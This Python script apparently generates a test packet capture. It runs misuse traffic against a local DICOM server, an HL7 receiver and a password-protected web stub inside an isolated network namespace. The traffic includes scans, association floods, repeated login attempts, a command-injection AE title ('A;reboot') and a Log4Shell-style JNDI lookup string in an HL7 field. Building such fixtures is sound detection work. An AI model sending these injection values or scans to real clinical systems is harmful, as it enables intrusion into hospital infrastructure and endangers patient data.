"""Misuses a DICOM server, an HL7 receiver and a web page with real software, in a network of its own, and captures it.

    unshare --net python3 misuse.py FILE.pcap

Each host is another address of the loopback interface. Needs root, tcpdump, and DCMTK's storescp and echoscu.
"""
import http.server
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

SERVER = "127.0.0.1"


def start(*command):
    return subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def run(*command):
    subprocess.run(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False, timeout=20)


def wait_for(port):
    for _ in range(200):
        with open("/proc/net/tcp") as table:
            if any(line.split()[1].endswith(f":{port:04X}") and line.split()[3] == "0A" for line in list(table)[1:]):
                return
        time.sleep(0.05)
    sys.exit(f"nobody listens at port {port}")


def connect(port, source="127.0.0.1", host=SERVER):
    link = socket.socket()
    link.settimeout(5)
    link.bind((source, 0))
    link.connect((host, port))
    return link


def associate_request(called):
    """A-ASSOCIATE-RQ for Verification (PS3.8 9.3.2)."""
    def item(kind, value):
        return struct.pack(">BBH", kind, 0, len(value)) + value

    context = item(0x20, b"\1\0\0\0" + item(0x30, b"1.2.840.10008.1.1") + item(0x40, b"1.2.840.10008.1.2"))
    user = item(0x50, item(0x51, struct.pack(">I", 16384)) + item(0x52, b"1.2.3.4"))
    body = struct.pack(">HH16s16s32x", 1, 0, called.ljust(16), b"TOOL".ljust(16)) + item(0x10, b"1.2.840.10008.3.1.1.1") + context + user
    return struct.pack(">BBI", 1, 0, len(body)) + body


def misuse_dicom(folder):
    archive = start("storescp", "-od", folder, "11112")
    wait_for(11112)
    for n in range(1, 11):
        run("echoscu", "-aet", "CT1", "-aec", "PACS", f"127.0.0.{n}", "11112")
    for n in range(7):
        run("echoscu", "-aet", "CT1", "-aec", f"TITLE{n}", SERVER, "11112")
    run("echoscu", "-aet", "A;reboot", "-aec", "PACS", SERVER, "11112")
    for _ in range(70):
        with connect(11112, "127.0.0.60") as link:
            link.sendall(associate_request(b"PACS"))
            link.recv(4096)
    with connect(11112, "127.0.0.61") as link:
        link.sendall(b"GET / HTTP/1.1\r\nHost: pacs\r\n\r\n")
        time.sleep(0.1)
    with connect(11112, "127.0.0.62") as link:
        link.sendall(associate_request(b"PACS"))
        link.recv(4096)
        archive.kill()
        archive.wait()
        link.recv(4096)
    run("echoscu", SERVER, "11112")


def receive_messages(port, code):
    """An MLLP receiver that answers everything with the code."""
    listener = socket.create_server((SERVER, port))

    def serve(link):
        held = b""
        while data := link.recv(65536):
            held += data
            while b"\x1c\r" in held:
                message, held = held.split(b"\x1c\r", 1)
                header = message[message.index(b"MSH"):].split(b"\r")[0].split(b"|")
                link.sendall(b"\x0bMSH|^~\\&|ENGINE|H|%s|H|20261122||ACK|A%s|P|2.5\rMSA|%s|%s\r\x1c\r" % (header[2], header[9], code, header[9]))

    def accept():
        while True:
            threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()


def message(kind, number, application=b"HIS", patient=1, processing=b"P"):
    return b"\x0bMSH|^~\\&|%s|H|ENGINE|H|20261122||%s|C%d|%s|2.5\rPID|1||TEST%d^^^H\r\x1c\r" % (application, kind, number, processing, patient)


def send(port, source, messages):
    with connect(port, source) as link:
        for text in messages:
            link.sendall(text)
            link.recv(4096)


def misuse_hl7():
    receive_messages(6661, b"AA")
    receive_messages(6662, b"AR")
    send(6661, "127.0.0.20", (message(b"ADT^A40", n, patient=n) for n in range(12)))
    send(6661, "127.0.0.21", (message(b"ADT^A03", n, patient=n) for n in range(70)))
    send(6661, "127.0.0.22", (message(b"QBP^Q22", n, patient=n) for n in range(310)))
    for source in ("127.0.0.23", "127.0.0.66"):
        send(6661, source, [message(b"ORM^O01", 7777, b"CPOE", 5)])
    send(6661, "127.0.0.24", [message(b"ADT^A01", 1, b"${jndi:ldap://x/a}")])
    send(6661, "127.0.0.25", [message(b"ADT^A01", 500, processing=b"T")])
    send(6662, "127.0.0.26", (message(b"ADT^A0%d" % n, n) for n in range(1, 7)))
    send(6662, "127.0.0.27", (message(b"ORU^R01", n, b"LAB", n) for n in range(110)))
    send(6661, "127.0.0.28", (message(b"ADT^A01", 600 + n).replace(b"\x0bMSH", b"\x0bjunk\rMSH") for n in range(12)))


class Locked(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(401)
        self.send_header("WWW-Authenticate", 'Basic realm="archive"')
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *_):
        pass


def misuse_web():
    server = http.server.ThreadingHTTPServer((SERVER, 8042), Locked)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    for n in range(22):
        with connect(8042, "127.0.0.30") as link:
            link.sendall(b"GET / HTTP/1.1\r\nHost: archive\r\nAuthorization: Basic YWRtaW46bm90LWEtc2VjcmV0\r\nConnection: close\r\n\r\n")
            while link.recv(4096):
                pass


def misuse_network():
    attempts = [(SERVER, port) for port in range(42000, 42020)] + [(f"127.0.1.{n}", 445) for n in range(1, 61)]
    for source, targets in (("127.0.0.40", attempts[:20]), ("127.0.0.41", attempts[20:])):
        for host, port in targets:
            try:
                connect(port, source, host).close()
            except ConnectionRefusedError:
                pass


def main():
    run("ip", "link", "set", "lo", "up")
    with tempfile.TemporaryDirectory() as folder:
        capture = subprocess.Popen(["tcpdump", "-i", "lo", "-U", "-s", "0", "-B", "8192", "-Z", "root", "-w", sys.argv[1], "tcp"], stderr=subprocess.PIPE, text=True)
        capture.stderr.readline()
        misuse_network()
        misuse_dicom(folder)
        misuse_hl7()
        misuse_web()

        # What has ended is told ten seconds later.
        time.sleep(1)
        capture.terminate()
        capture.wait()


main()
